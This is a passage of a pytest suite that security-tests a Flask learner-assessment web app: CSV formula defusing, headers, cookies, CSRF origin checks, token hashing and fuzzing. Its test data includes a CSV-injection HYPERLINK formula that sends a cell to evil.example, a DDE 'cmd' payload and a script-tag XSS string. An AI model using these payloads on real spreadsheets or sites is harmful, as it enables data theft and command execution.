    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, as Excel needs
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


FORMULAS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def test_csv_exports_defuse_formulas(fresh_app):
    app = fresh_app
    admin, fay = staff_visitor(app, "admin", "Fay Admin", "fay@centre.example")
    admin_id = fay["id"]
    verifier, _ = staff_visitor(app, "verifier", "Val Verifier", "val@centre.example")
    injected: list[str] = []
    learner_ids = []
    for i, f in enumerate(FORMULAS):
        # name, candidate number and job title from the staff form (which strips spaces) …
        response = admin.post(
            "/staff/learners", {"name": f, "candidate_number": f[:40], "job_role": f}
        )
        assert response.status_code == 200
        token = personal_tokens(response)[0]
        lid = with_db(app, lambda db, t=token: learners.learner_by_token(db, t)["id"])
        learner_ids.append(lid)
        injected.append(f.strip())
        # … and one kept as given (by an older version, or written to the database by
        # another program), tab or carriage return first
        with_db(app, lambda db, i=i, f=f: learners.create_learner(db, f"Kept {i}", "", f))
        injected.append(f)
        # the learner's own job title, the assessment plan, and both signatures
        learner = learner_visitor(app, token)
        learner.post("/assessment/job", {"job_role": "other", "job_role_other": f})
        assert (
            admin.post(
                f"/staff/learners/{lid}/plan", {"action": "confirm", "units": VALID}
            ).status_code
            == 303
        )
        base = f"/staff/learners/{lid}"
        row = {**ROW, "observed_when": f, "observed_where": f, "activity": f}
        row |= {"observer": "witness", "witness_name": f, "witness_role": f, "witness_contact": f}
        assert admin.post(f"{base}/assessment-plan", row).status_code == 303
        # the record, the conversation's notes, the centre: all in the export's introduction
        record = {"name": f, "job_role": f, "phone": f, "employer": f, "address": f}
        record |= {"workplace": f, "start_on": "2027-01-11", "planned_end_on": "2027-09-30"}
        assert admin.post(f"{base}/record", record).status_code == 303
        points = {
            f"{k}-{item}": v
            for item in ITEM_IDS
            for k, v in (("tick", "1"), ("on", "2027-01-11"), ("notes", f))
        }
        assert admin.post(f"{base}/checklist", points).status_code == 303
        centre = {k: f for k in ("name", "address", "phone", "contact")} | {"number": f[:40]}
        centre |= {k: f for k in ("review_frequency", "appeals")}
        centre |= {"assessor_responsibilities": f, "learner_responsibilities": f}
        assert admin.post("/staff/centre", centre).status_code == 303
        assert admin.post(f"{base}/assessor", {"assessor": admin_id}).status_code == 303
        assert admin.post(f"{base}/contract", {"action": "issue"}).status_code == 303
        assert learner.post("/contract", {"name": f}).status_code == 303  # their name: a formula
        response = admin.post(f"{base}/contract", {"action": "sign", "name": "Fay Admin"})
        assert response.status_code == 303
        sample = {"parts": ["record"], "decision": "agreed", "comment": f}
        assert verifier.post(f"{base}/sampling", sample).status_code == 303
        # the learner's own download
        if "learner.my_data_csv" in {r.endpoint for r in app.url_map.iter_rules()}:
            cells = _csv_cells(learner.get("/my-data.csv"))
            bad = [c for c in cells if c.startswith(FORMULA_START)]
            assert not bad, f"my-data.csv: {bad[:5]}"
            assert "'" + f.strip() in cells
    exports = {"cohort.csv": admin.get("/staff/cohort.csv")}
    exports["sampling.csv"] = admin.get("/staff/sampling.csv")
    for lid in learner_ids:
        exports[f"report.csv {lid}"] = admin.get(f"/staff/learners/{lid}/report.csv")
        if "staff.export_learner_csv" in {r.endpoint for r in app.url_map.iter_rules()}:
            exports[f"export.csv {lid}"] = admin.get(f"/staff/learners/{lid}/export.csv")
    all_cells = []
    for name, response in exports.items():
        cells = _csv_cells(response)
        bad = [c for c in cells if c.startswith(FORMULA_START)]
        assert not bad, f"{name}: cells a spreadsheet would run: {bad[:5]}"
        all_cells += cells
    for value in injected:
        assert "'" + value in all_cells, f"{value!r} is not in any export, defused"


# ---- 4. headers, cookies, error pages --------------------------------------------------------


def test_static_files_carry_the_headers_too(w):
    with w.client("anonymous").get("/static/style.css") as response:
        assert response.status_code == 200
        assert not header_problems(response)


@pytest.mark.parametrize(
    "path",
    [
        "/static/app.js%00",
        "/static/%00",
        "/static/style.css%00.png",
        "/static/%00/app.js",
        "/static/app.js%00?v=1",
        "/static/..%00",
        "/static/" + "a" * 5000 + ".css",
        "/q/03455/units/F1%00",
        "/q/03455/check/B1%00",
        "/q/03455/qr/B1%00.svg",
        "/l/%00",
        "/staff/setup/%00",
    ],
)
def test_a_path_the_file_system_cannot_take_is_not_found_not_a_500(w, path):
    """A NUL byte (or a name too long for the disk) in an address is simply not there."""
    for method in ("GET", "HEAD"):
        with w.client("anonymous").open(path, method=method) as response:
            assert response.status_code == 404, (method, response.status_code)
            assert not page_problems(response)


def test_error_responses_carry_the_headers_and_no_internals(w):
    client = w.client("anonymous")
    responses = {
        404: client.get("/no/such/page"),
        405: client.get("/staff/logout"),
        400: client.post("/code", data={"code": "x"}),
        413: client.post(
            "/code", data={"csrf_token": w.csrf["anonymous"], "code": "x" * (300 * 1024)}
        ),
    }
    email = w.staff["assessor_b"]["email"]
    for _ in range(3):  # after 3 failed tries the next must wait
        assert (
            w.request(
                "anonymous", "POST", "/staff/login", {"email": email, "password": "no"}
            ).status_code
            == 401
        )
    responses[429] = w.request(
        "anonymous", "POST", "/staff/login", {"email": email, "password": "x"}
    )
    responses[403] = w.request("assessor_a", "GET", "/staff/users")
    responses[401] = w.request("anonymous", "POST", "/assessment/save", {"name": "x"})
    for status, response in responses.items():
        assert response.status_code == status, (status, text(response)[:200])
        assert not page_problems(response), (status, page_problems(response))
        assert "werkzeug" not in text(response).lower()


SQL_ERROR = (
    'no such column: password_hash_secret in "SELECT password_hash_secret FROM staff '
    "WHERE email = 'x'\""
)


@pytest.mark.parametrize("accept", ["text/html", "application/json"])
@pytest.mark.parametrize("testing", [True, False])
def test_a_500_shows_no_stack_trace_and_no_sql(tmp_path, accept, testing):
    app = create_app(
        {
            "TESTING": testing,
            "NO_SETUP_LINK": True,
            "SECRET_KEY": SECRET,
            "DATABASE": str(tmp_path / "boom.db"),
        }
    )

    def boom():  # type: ignore[no-untyped-def]
        raise sqlite3.OperationalError(SQL_ERROR)

    app.add_url_rule("/test-only/boom", "boom", boom)
    app.logger.disabled = True  # the log is for the operator; this test reads the page
    response = app.test_client().get("/test-only/boom", headers={"Accept": accept})
    assert response.status_code == 500
    body = text(response).replace(STYLESHEET, "")  # the page's own CSS says "inline"
    for leak in ("Traceback", "OperationalError", "SELECT", "password_hash", "sqlite", "line "):
        assert leak not in body, leak
    assert not page_problems(response)


@pytest.mark.parametrize("how", ["config", "environment"])
def test_cookies_are_secure_when_the_public_url_is_https(tmp_path, monkeypatch, how):
    config = {"TESTING": True, "SECRET_KEY": SECRET, "DATABASE": str(tmp_path / "s.db")}
    if how == "config":
        config["PUBLIC_URL"] = "https://assess.example.org"
    else:
        monkeypatch.setenv("FLASK_PUBLIC_URL", "https://assess.example.org")
    app = create_app(config)
    staff = new_staff(app, "admin", "Sec Admin", "sec@centre.example")
    _, token = with_db(app, lambda db: learners.create_learner(db, "Sec Learner"))
    client = app.test_client()
    https = {"base_url": "https://assess.example.org"}
    set_cookies = []
    response = client.get(f"/l/{token}", **https)
    set_cookies += response.headers.getlist("Set-Cookie")
    page = client.get("/staff/login", **https)
    set_cookies += page.headers.getlist("Set-Cookie")
    response = client.post(
        "/staff/login",
        data={"csrf_token": csrf(page), "email": staff["email"], "password": PASSWORD},
        # over https Flask-WTF also wants a same-site Referer
        headers={"Referer": "https://assess.example.org/staff/login"},
        **https,
    )
    assert response.status_code == 302
    set_cookies += response.headers.getlist("Set-Cookie")
    assert set_cookies
    for cookie in set_cookies:
        flags = [f.strip().lower() for f in cookie.split(";")[1:]]
        assert {"secure", "httponly", "samesite=lax"} <= set(flags), cookie


def https_app(tmp_path, **config):  # type: ignore[no-untyped-def]
    return create_app(
        {"TESTING": True, "SECRET_KEY": SECRET, "DATABASE": str(tmp_path / "r.db"), **config}
    )


SITE = "https://assess.example.org"


@pytest.mark.parametrize(
    "headers, status",
    [
        ({"Origin": SITE}, 302),  # what a browser sends with any form POST
        ({"Origin": SITE, "Referer": SITE + "/staff/login"}, 302),
        ({"Referer": SITE + "/staff/login"}, 302),  # an older browser: no Origin
        ({"Origin": SITE + ":443"}, 302),  # the same origin, default port spelt out
        ({"Origin": "https://evil.example"}, 400),
        ({"Origin": "https://evil.example", "Referer": SITE + "/staff/login"}, 400),
        ({"Origin": "http://assess.example.org"}, 400),  # the same host over plain http
        ({"Origin": SITE + ":8443"}, 400),
        ({"Referer": "https://evil.example/staff/login"}, 400),
        ({"Referer": "http://assess.example.org/staff/login"}, 400),
        ({"Origin": "null"}, 400),  # a sandboxed frame or a no-referrer page elsewhere
        ({}, 400),  # neither: nothing says where it came from
    ],
)
def test_over_https_a_post_must_come_from_this_site(tmp_path, headers, status):
    """Over HTTPS a form must come from a page of this site: the Origin a browser sends, or
    failing that the Referer, names this site. (Flask-WTF's own check wanted a Referer always,
    and with Referrer-Policy: no-referrer browsers sent none: every POST over HTTPS failed.)"""
    app = https_app(tmp_path, PUBLIC_URL=SITE)
    staff = new_staff(app, "admin", "Ref Admin", "ref@centre.example")
    client = app.test_client()
    page = client.get("/staff/login", base_url=SITE)
    data = {"csrf_token": csrf(page), "email": staff["email"], "password": PASSWORD}
    before = dump(app.config["DATABASE"])
    response = client.post("/staff/login", data=data, headers=headers, base_url=SITE)
    assert response.status_code == status
    if status == 400:
        assert "came from somewhere else" in text(response) or "another site" in text(response)
        assert dump(app.config["DATABASE"]) == before


def test_the_public_address_counts_as_this_site_behind_a_proxy_that_renames_the_host(tmp_path):
    """A proxy may pass the app its own address as Host (nginx does unless told otherwise): the
    browser's Origin is then PUBLIC_URL's, which is this site too."""
    app = https_app(tmp_path, PUBLIC_URL=SITE, PROXY_FIX_X_PROTO=1)
    staff = new_staff(app, "admin", "Ref Admin", "ref@centre.example")
    client = app.test_client()
    inside = {"base_url": "http://127.0.0.1:8000", "headers": {"X-Forwarded-Proto": "https"}}
    page = client.get("/staff/login", **inside)
    data = {"csrf_token": csrf(page), "email": staff["email"], "password": PASSWORD}
    ok = client.post(
        "/staff/login",
        data=data,
        base_url="http://127.0.0.1:8000",
        headers={"X-Forwarded-Proto": "https", "Origin": SITE},
    )
    assert ok.status_code == 302
    assert "Secure" in ok.headers["Set-Cookie"]


@pytest.mark.parametrize("trusted", [0, 1])
def test_forwarded_headers_count_only_from_a_configured_proxy(tmp_path, trusted):
    """X-Forwarded-Proto, -For and -Host are believed only when PROXY_FIX_X_* says how many
    proxies set them; by default anyone could send them."""
    config = {f"PROXY_FIX_X_{k}": trusted for k in ("FOR", "PROTO", "HOST", "PREFIX")}
    app = https_app(tmp_path, **config)

    @app.get("/test-only/seen")
    def seen():  # type: ignore[no-untyped-def]
        from flask import request

        return {
            "scheme": request.scheme,
            "address": request.remote_addr,
            "host": request.host,
            "root": request.script_root,
        }

    forwarded = {
        "X-Forwarded-Proto": "https",
        "X-Forwarded-For": "203.0.113.9",
        "X-Forwarded-Host": "assess.example.org",
        "X-Forwarded-Prefix": "/assess",
    }
    got = app.test_client().get("/test-only/seen", headers=forwarded).json
    if trusted:
        assert got == {
            "scheme": "https",
            "address": "203.0.113.9",
            "host": "assess.example.org",
            "root": "/assess",
        }
    else:
        assert got == {"scheme": "http", "address": "127.0.0.1", "host": "localhost", "root": ""}


def test_forwarded_headers_that_no_setting_trusts_are_reported_once(tmp_path, caplog, monkeypatch):
    """Behind a proxy that is not configured every visitor has the proxy's address: say so."""
    app = create_app(
        {"SECRET_KEY": SECRET, "DATABASE": str(tmp_path / "f.db"), "NO_SETUP_LINK": True}
    )
    monkeypatch.setattr(app.logger, "disabled", False)  # other tests silence the app's logger
    client = app.test_client()
    with caplog.at_level("WARNING"):
        client.get("/")  # no forwarded headers: nothing to say
        assert not caplog.records
        for _ in range(3):
            client.get("/", headers={"X-Forwarded-For": "203.0.113.1"})
    warnings = [r.getMessage() for r in caplog.records if "X-Forwarded" in r.getMessage()]
    assert len(warnings) == 1 and "FLASK_PROXY_FIX_X_FOR=1" in warnings[0]


def test_cookies_are_httponly_and_lax_without_https(w):
    response = w.client("anonymous").get(f"/l/{w.token_a}")
    cookie = response.headers["Set-Cookie"]
    flags = [f.strip().lower() for f in cookie.split(";")[1:]]
    assert "httponly" in flags and "samesite=lax" in flags


# ---- 5. tokens and sessions ------------------------------------------------------------------


def _raw_secrets(w: World) -> dict[str, str]:
    found = {"learner A's token": w.token_a, "learner B's token": w.token_b}
    for visitor, token in w.contact_tokens.items():
        found[f"{visitor}'s link"] = token
    found["setup link"] = w.setup_token
    for visitor in w.staff:
        found[f"{visitor}'s session token"] = w.session_of(visitor)["staff_session"]
    return found


def test_tokens_and_setup_links_are_stored_only_as_hashes(w):
    # a reissued link too
    response = w.request("assessor_a", "POST", f"/staff/learners/{w.learner_a}/reissue")
    new_token = personal_tokens(response)[0]
    raw = {**_raw_secrets(w), "the reissued token": new_token}
    data = db_bytes(w.path)
    assert tokens.hash_token(new_token).encode() in data  # the right file is being read
    dumped = json.dumps(w.dump(), ensure_ascii=False)
    for what, token in raw.items():
        assert token
        for form in {token, token.upper(), tokens.pretty_token(token)}:
            assert form.encode() not in data, f"{what} is in the database file"
            assert form not in dumped, f"{what} is in a table"


def test_exports_never_carry_a_token_or_its_hash(w):
    with closing(sqlite3.connect(w.path)) as db:
        token_hash = db.execute(
            "SELECT token_hash FROM learners WHERE id = ?", [w.learner_a]
        ).fetchone()[0]
    pages = []
    endpoints = w.endpoints()
    for endpoint, visitor in (
        ("staff.export_learner_json", "admin"),
        ("staff.export_learner_csv", "admin"),
        ("learner.my_data_json", "learner_a"),
        ("learner.my_data_csv", "learner_a"),
    ):
        if endpoint in endpoints:
            pages.append((endpoint, w.request(visitor, "GET", w.url(endpoint))))
    for endpoint, response in pages:
        assert response.status_code == 200, endpoint
        body = text(response)
        assert "Alex Able" in body
        for secret in (w.token_a, token_hash, token_hash[:32], tokens.pretty_token(w.token_a)):
            assert secret not in body, f"{endpoint} carries a secret"


def test_tokens_are_looked_up_by_their_hash_never_sent_to_the_database(w, monkeypatch):
    statements: list[str] = []
    connect = survey.db.connect

    def traced(path):  # type: ignore[no-untyped-def]
        db = connect(path)
        db.conn.set_trace_callback(statements.append)
        return db

    monkeypatch.setattr(survey.db, "connect", traced)
    raw = _raw_secrets(w)
    assert w.request("anonymous", "GET", f"/l/{w.token_a}").status_code == 302
    assert w.request("anonymous", "POST", "/code", {"code": w.token_b}).status_code == 302
    assert w.request("anonymous", "GET", f"/staff/setup/{w.setup_token}").status_code == 404
    for visitor in w.staff:
        assert w.request(visitor, "GET", "/staff/cohort").status_code == 200
    assert w.request("learner_a", "GET", "/my-record").status_code == 200
    sql = "\n".join(statements)
    assert tokens.hash_token(w.token_a) in sql  # the lookup is there, by hash
    assert hashlib.sha256(raw["admin's session token"].encode()).hexdigest() in sql
    for what, token in raw.items():
        assert token not in sql, f"{what} was sent to the database"


def test_a_remembered_device_is_checked_in_constant_time(w, monkeypatch):
    calls = []
    real = tokens.hmac.compare_digest

    def spy(a, b):  # type: ignore[no-untyped-def]
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(tokens.hmac, "compare_digest", spy)
    assert w.request("learner_a", "GET", "/my-record").status_code == 200
    assert calls, "the device key was not compared with hmac.compare_digest"
    learner = with_db(w.app, lambda db: learners.learner(db, w.learner_a))
    key = tokens.device_key(learner)
    assert tokens.device_key_matches(learner, key)
    assert not tokens.device_key_matches(learner, key[:-1] + ("0" if key[-1] != "0" else "1"))
    assert not tokens.device_key_matches(learner, "")


def test_a_reissued_link_stops_the_old_link_and_signs_out_every_device(w):
    assert w.request("learner_a", "GET", "/assessment/job").status_code == 200
    response = w.request("assessor_a", "POST", f"/staff/learners/{w.learner_a}/reissue")
    assert response.status_code == 200
    new_token = personal_tokens(response)[0]
    assert new_token != w.token_a
    assert outcome(w.request("learner_a", "GET", "/assessment/job")) == "code"
    assert w.request("anonymous", "GET", f"/l/{w.token_a}").status_code == 404
    assert w.request("anonymous", "POST", "/code", {"code": w.token_a}).status_code == 400
    client = w.app.test_client()
    assert client.get(f"/l/{new_token}").status_code == 302
    assert client.get("/my-record").status_code == 200


def test_an_archived_learner_is_signed_out_and_their_link_stops(w):
    response = w.request("assessor_a", "POST", f"/staff/learners/{w.learner_a}/archive")
    assert response.status_code == 303
    assert outcome(w.request("learner_a", "GET", "/my-record")) == "code"
    assert w.request("anonymous", "GET", f"/l/{w.token_a}").status_code == 404


def test_a_staff_session_cookie_stops_working_after_sign_out(w):
    assert w.request("admin", "GET", "/staff/learners").status_code == 200
    response = w.request("admin", "POST", "/staff/logout")
    assert response.status_code == 302
    # the cookie as it was before signing out, e.g. copied off the machine
    assert outcome(w.request("admin", "GET", "/staff/learners")) == "login"
    assert outcome(w.request("admin", "POST", "/staff/learners", {"name": "X"})) == "login"


def test_disabling_an_account_ends_its_sessions(w):
    assert w.request("assessor_b", "GET", "/staff/learners").status_code == 200
    url = f"/staff/users/{w.staff['assessor_b']['id']}/disable"
    assert w.request("admin", "POST", url).status_code == 303
    assert outcome(w.request("assessor_b", "GET", "/staff/learners")) == "login"
    response = w.request(
        "anonymous",
        "POST",
        "/staff/login",
        {"email": w.staff["assessor_b"]["email"], "password": PASSWORD},
    )
    assert response.status_code == 401


def test_each_sign_in_gets_a_new_session_token(w):
    tokens = set()
    for _ in range(2):
        client = w.app.test_client()
        assert sign_in(client, w.staff["admin"]["email"]).status_code == 302
        cookie = client.get_cookie(w.app.config["SESSION_COOKIE_NAME"])
        serializer = w.app.session_interface.get_signing_serializer(w.app)
        tokens.add(serializer.loads(cookie.value)["staff_session"])
    assert len(tokens) == 2


def test_the_setup_link_works_once_and_is_stored_hashed(fresh_app):
    app = fresh_app
    token = with_db(app, accounts.create_setup_link)
    assert token and token.encode() not in db_bytes(app.config["DATABASE"])
    client = app.test_client()
    page = client.get(f"/staff/setup/{token}")
    assert page.status_code == 200
    data = {
        "csrf_token": csrf(page),
        "name": "First Admin",
        "email": "first@centre.example",
        "password": PASSWORD,
        "confirm": PASSWORD,
    }
    assert client.post(f"/staff/setup/{token}", data=data).status_code == 302
    other = app.test_client()
    assert other.get(f"/staff/setup/{token}").status_code == 404
    data["email"] = "second@centre.example"
    data["csrf_token"] = csrf(other.get("/staff/login"))
    assert other.post(f"/staff/setup/{token}", data=data).status_code == 404
    assert with_db(app, accounts.staff_count) == 1


def test_an_erased_learner_leaves_nothing_in_the_database_file(w):
    if w.rule("staff.erase_learner") is None:
        pytest.skip("no erasure yet")
    before = db_bytes(w.path)
    assert b"Alex Able" in before and b"Barista" in before
    response = w.request(
        "admin", "POST", f"/staff/learners/{w.learner_a}/erase", {"confirm": "Alex Able"}
    )
    assert response.status_code == 303
    after = db_bytes(w.path)
    for trace in (b"Alex Able", b"Barista"):
        assert trace not in after, f"{trace!r} is still in the database file after erasure"
    assert outcome(w.request("learner_a", "GET", "/my-record")) == "code"


# ---- bugs: found by these tests --------------------------------------------------------------


@pytest.mark.parametrize(
    ("visitor", "method", "url"),
    [
        ("admin", "GET", "/staff/learners/99999999999999999999"),
        ("admin", "GET", "/staff/learners/99999999999999999999/report.csv"),
        ("admin", "GET", "/staff/learners/99999999999999999999/export.json"),
        ("admin", "POST", "/staff/learners/99999999999999999999/reissue"),
        ("admin", "POST", "/staff/users/99999999999999999999/disable"),
        ("admin", "GET", "/staff/audit?page=99999999999999999999"),
        ("learner_a", "GET", "/q/03455/check/B1/results/99999999999999999999"),
    ],
)
def test_a_number_too_big_for_sqlite_is_a_404_not_a_500(w, visitor, method, url):
    """An id (or audit page) above 2**63 reaches SQLite, which raises OverflowError: a 500."""
    response = w.request(visitor, method, url)
    assert response.status_code < 500, f"{method} {url}: {response.status_code}"


def test_a_plan_suggestion_number_in_superscript_is_a_400_not_a_500(w):
    """'²'.isdigit() is True but int('²') raises ValueError (staff.plan, action 'use-²')."""
    response = w.request(
        "assessor_a", "POST", f"/staff/learners/{w.learner_a}/plan", {"action": "use-²"}
    )
    assert response.status_code == 400


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/q/03455/check/F1", "r-F1-1.1"),
        ("/assessment/F1-1", "r-F1-1.1"),
        ("/assessment/job", "c-writing"),
    ],
)
@pytest.mark.parametrize("blank", [" ", "\t", "\u3000"])
def test_a_blank_answer_is_refused_not_a_500(w, path, field, blank):
    """WTForms' Optional() clears ChoiceField.pre_validate's error when the value is only
    whitespace, so the value reaches int() (ratings: ValueError) or SQLite's CHECK (context
    answers: IntegrityError): a 500 (survey/forms.py _rating_field/_context_field,
    survey/views/learner.py _valid)."""
    answers = ("ratings", "check_ratings", "context_answers", "self_checks", "audit")
    before = w.dump()
    response = w.request("learner_b", "POST", path, {field: blank})
    assert response.status_code in (303, 400), response.status_code  # ignored, or refused
    after = w.dump()
    assert [t for t in changed_tables(before, after) if t in answers] == []


def test_a_blank_job_role_is_refused_not_stored(w):
    """The same Optional() on the job page's SelectField: a job role of " " is saved."""
    response = w.request("learner_b", "POST", "/assessment/job", {"job_role": " "})
    with closing(sqlite3.connect(w.path)) as db:
        (role,) = db.execute("SELECT job_role FROM learners WHERE id = ?", [w.learner_b]).fetchone()
    assert role == "", f"stored job role {role!r} (reply {response.status_code})"


# ---- 6. property-based: random and malformed forms to every POST route -----------------------

FIELD_NAMES = [
    "r-F1-1.1",
    "r-F1-1.2",
    "r-B1-1.1",
    "r-B1-1.4",
    "r-A3-unit",
    "r-ZZ-1.1",
    "c-face-to-face",
    "c-writing",
    "c-nope",
    "job_role",
    "job_role_other",
    "interests",
    "name",
    "value",
    "page",
    "go",
    "code",
    "next",
    "email",
    "password",
    "confirm",
    "role",
    "candidate_number",
    "assessor",
    "rows",
    "units",
    "observed_when",
    "observed_where",
    "activity",
    "evidence",
    "action",
    "statement",
    "rating",
    "a-F1:1.1",
    "a-B1:1.2",
    "a-ZZ:9",
    # the learner's record, the conversation, the plan's activities, sampling, passwords
    "phone",
    "address",
    "employer",
    "workplace",
    "start_on",
    "planned_end_on",
    "tick-level",
    "on-level",
    "notes-level",
    "tick-optional",
    "tick-plan",
    "planned_on",
    "criteria",
    "observer",
    "witness_name",
    "witness_contact",
    "review_on",
    "status",
    "outcome",
    "feedback",
    "completed_on",
    "version",
    "request_key",
    "learner",
    "parts",
    "decision",
    "comment",
    "current",
    "review_frequency",
    "appeals",
    "w-F1-1.1",
    "w-F1-3.1",
    "n-F1-1.1",
    "c-incoming-calls",
    "activity_date",
    "activity_time",
    "venue",
    "description",
    "relationship",
    "job_title",
    "contact_details",
    "signature",
    "testimony",
    "questioning_note",
    "contact",
]
SPECIAL_VALUES = [
    "",
    " ",
    "0",
    "1",
    "2",
    "3",
    "4",
    "-1",
    "3.0",
    " 2",
    "yes",
    "sometimes",
    "no",
    "maybe",
    "other",
    "None",
    "F1",
    "B1",
    "A3",
    "A4",
    "B2",
    "C3",
    "D1",
    "ZZ9",
    "F1:1.1",
    "B1:1.1",
    "A3:unit",
    "A3:1",
    "A3:0",
    "F1:1",
    "ZZ:1",
    "r-F1-1.1",
    "r-B1-1.1",
    "c-face-to-face",
    "use-0",
    "use-1",
    "use-99",
    "use-",
    "use--1",
    "confirm",
    "save",
    "check",
    "issue",
    "sign",
    "observation",
    "simulation",
    "assessor",
    "admin",
    "verifier",
    "Alex Able",
    PASSWORD,
    "admin@centre.example",
    "job",
    "F1-1",
    "review",
    "interests",
    "back",
    "seen",
    "partly",
    "not-yet",
    "no-chance",
    "line-manager",
    "witness",
    "workplace",
    "accepted",
    "not-accepted",
    "invite",
    "revoke",
    "reissue",
    "save",
    "sign-as-it-is",
    "2026-01-05",
    "31/02/2026",
    "2999-12-31",
    "\x00",
    "\u202e",
    "<script>alert(1)</script>",
    "9" * 30,
    "Imported, 1, Chef\n,,\nname",
    "y" * 2001,
    "z" * 90_000,  # a few of these together pass the 256 KB limit: 413
    "2027-03-16",
    "2027-02-30",
    "16/03/2027",
    "1-1-1",
    "F1:1.1",
    "F2:1.1",
    "A3:unit",
    "A10:unit",
    "witness",
    "done",
    "cancelled",
    "planned",
    "met",
    "not-yet",
    "agreed",
    "action",
    "not-agreed",
    "record",
]
_value = st.one_of(
    st.sampled_from(SPECIAL_VALUES),
    st.text(st.characters(codec="utf-8"), max_size=30),
    st.builds(lambda ch, n: ch * n, st.characters(codec="utf-8"), st.integers(0, 300)),
)
_key = st.one_of(
    st.sampled_from(FIELD_NAMES),
    st.text(st.characters(codec="utf-8"), max_size=12).filter(lambda k: k != "csrf_token"),
)
FORMS = st.dictionaries(_key, st.one_of(_value, st.lists(_value, max_size=4)), max_size=8)


def _fuzz_visitor(endpoint: str) -> str:
    table = EXPECTED[endpoint]["POST"]
    for visitor in ("learner_b", "learner_a", "workplace_a", "admin", "verifier", "anonymous"):
        if table[visitor] == "ok":
            return visitor
    return "anonymous"


def stored_data_problems(path: str, q) -> list[str]:
    """Whatever was sent, the stored data must stay valid."""
    problems = []
    with closing(sqlite3.connect(path)) as db:
        for table in ("ratings", "check_ratings", "assessor_ratings"):
            for statement_id, rating in db.execute(f"SELECT statement_id, rating FROM {table}"):
                if q.statement(statement_id) is None or rating not in (0, 1, 2, 3):
                    problems.append(f"{table}: {statement_id!r} = {rating!r}")
        for context_id, answer in db.execute("SELECT context_id, answer FROM context_answers"):
            if q.context(context_id) is None or answer not in ANSWERS:
                problems.append(f"context_answers: {context_id!r} = {answer!r}")
        for (unit,) in db.execute("SELECT unit FROM interests"):
            if q.unit(unit) is None:
                problems.append(f"interests: {unit!r}")
        optional = {u.number for u in q.optional_units}
        for (units,) in db.execute("SELECT units FROM plans"):
            if not set(json.loads(units)) <= optional:
                problems.append(f"plans: {units}")
        evidence_kinds = {
            "observation",
            "witness",
            "discussion",
            "questioning",
            "products",
            "simulation",
        }
        for units, evidence, criteria, status, outcome, feedback, planned_on in db.execute(
            "SELECT units, evidence, criteria, status, outcome, feedback, planned_on "
            "FROM assessment_plan_rows"
        ):
            if not all(q.unit(u) for u in json.loads(units)) or not json.loads(units):
                problems.append(f"assessment_plan_rows units: {units}")
            if not set(json.loads(evidence)) <= evidence_kinds or not json.loads(evidence):
                problems.append(f"assessment_plan_rows evidence: {evidence}")
            if not json.loads(criteria) or not all(q.statement(c) for c in json.loads(criteria)):
                problems.append(f"assessment_plan_rows criteria: {criteria}")
            if status == "done" and (outcome not in ("met", "not-yet") or not feedback):
                problems.append(f"assessment_plan_rows done without outcome: {outcome!r}")
            if status == "cancelled" and not feedback:
                problems.append("assessment_plan_rows cancelled without a reason")
            if len(planned_on or "") != 10:
                problems.append(f"assessment_plan_rows planned_on: {planned_on!r}")
        for item, ticked, on, notes in db.execute(
            "SELECT item, ticked, discussed_on, notes FROM initial_assessment"
        ):
            if item not in ITEM_IDS or (ticked and (not on or not notes.strip())):
                problems.append(f"initial_assessment: {item!r} {ticked} {on!r}")
        parts_known = {"record"} | {u.number for u in q.units}
        for parts, comment in db.execute("SELECT parts, comment FROM samples"):
            if not json.loads(parts) or not set(json.loads(parts)) <= parts_known:
                problems.append(f"samples: {parts}")
            if not comment.strip():
                problems.append("samples: no comment")
        for start, end in db.execute("SELECT start_on, planned_end_on FROM learners"):
            if start and end and end < start:
                problems.append(f"learners: ends {end} before it starts {start}")
        scale = {None, "seen", "partly", "not-yet", "no-chance"}
        for statement_id, rating, note in db.execute(
            "SELECT statement_id, rating, note FROM workplace_ratings"
        ):
            if q.statement(statement_id) is None or rating not in scale or len(note) > 500:
                problems.append(f"workplace_ratings: {statement_id!r} = {rating!r}")
        for context_id, answer in db.execute(
            "SELECT context_id, answer FROM workplace_context_answers"
        ):
            if q.context(context_id) is None or answer not in ANSWERS:
                problems.append(f"workplace_context_answers: {context_id!r} = {answer!r}")
        for (statement_id,) in db.execute("SELECT statement_id FROM testimony_criteria"):
            if q.statement(statement_id) is None:
                problems.append(f"testimony_criteria: {statement_id!r}")
        for (day,) in db.execute("SELECT activity_date FROM testimonies"):
            if day and not re.fullmatch(r"\d{4}-\d{2}-\d{2}", day):
                problems.append(f"testimonies: activity date {day!r}")
        roles = {r.title for r in q.roles} | {"", "other"}
        for role, other in db.execute("SELECT job_role, job_role_other FROM learners"):
            if role not in roles or len(other) > 100:
                problems.append(f"learners: job role {role[:40]!r} / {other[:40]!r}")
            if other and role != "other":
                problems.append(f"learners: a job title {other[:40]!r} with role {role[:40]!r}")
        for (role,) in db.execute("SELECT role FROM staff"):
            if role not in ("admin", "assessor", "verifier"):
                problems.append(f"staff: role {role!r}")
    return problems


# the URL's own parameters vary too: another page of the assessment, another unit, learner B
URL_PARAMS = {
    "key": st.sampled_from(["job", "F1-1", "F2-2", "group-B", "group-E", "interests", "review"]),
    "number": st.sampled_from(["B1", "F1", "A3", "b1", "ZZ9"]),
    "learner_id": st.sampled_from(["learner_a", "learner_b"]),
    "unit": st.sampled_from(["F1", "F2", "units", "B1", "f1", "ZZ9"]),
}


@pytest.mark.parametrize("endpoint", POST_ENDPOINTS)
@settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(form=FORMS, data=st.data())
def test_random_forms_never_cause_a_500_or_bad_data(world, endpoint, form, data):
    if world.rule(endpoint) is None:
        pytest.skip(f"{endpoint} does not exist yet")
    world.restore()
    visitor = _fuzz_visitor(endpoint)
    params = {}
    for name in world.rule(endpoint).arguments & set(URL_PARAMS):
        params[name] = data.draw(URL_PARAMS[name], label=name)
        if name == "learner_id":
            params[name] = getattr(world, params[name])
    response = world.request(visitor, "POST", world.url(endpoint, **params), form)
    event(f"status {response.status_code}")
